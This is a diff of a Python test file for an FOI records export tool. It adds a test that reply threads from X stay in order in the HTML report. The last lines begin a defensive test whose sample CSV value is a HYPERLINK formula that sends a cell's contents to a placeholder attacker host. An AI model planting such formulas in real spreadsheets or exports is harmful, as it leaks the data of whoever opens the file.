@@ -290,6 +290,25 @@ def test_an_foi_export_has_json_csv_html_and_a_manifest_that_verifies(
     assert "Jordan Park" in chains(archive)["comment"].path.read_text()
 
 
+def test_the_foi_report_keeps_every_x_reply_in_its_thread(
+    site: Site, sandboxes: Sandboxes, tmp_path: Path
+) -> None:
+    # On X a direct reply's parent is the City's tweet, which is the post, not a comment.
+    site.add("2026-11-20-flushing")
+    settings = site.syndicate_to(sandboxes)
+    tweet = next(iter(sandboxes.twitter.tweets))
+    question = sandboxes.twitter.add_reply(tweet, "Is Laurel Crescent included?")
+    sandboxes.twitter.add_reply(question, "Yes, Laurel is on Tuesday.", sandboxes.twitter.user_id)
+    collect(settings, site.content, say=lambda _: None)
+    out = tmp_path / "foi"
+    export(site.root / "records", ROOT, "FOI-2026-014", ["Laurel"], out)
+    records = json.loads((out / "records.json").read_text())["records"]
+    assert "Yes, Laurel is on Tuesday." in [r["text"] for r in records]
+    report = (out / "report.html").read_text()
+    assert report.index("Is Laurel Crescent included?") < report.index("Yes, Laurel is on Tuesday.")
+    assert 'style="margin-left: 1.5rem"' in report  # the City's answer, under the question
+
+
 def test_the_foi_csv_shows_cells_that_start_like_a_formula_as_text(tmp_path: Path) -> None:
     records = tmp_path / "records"
     link = '=HYPERLINK("http://evil.example/?x="&A2,"Click for details")'
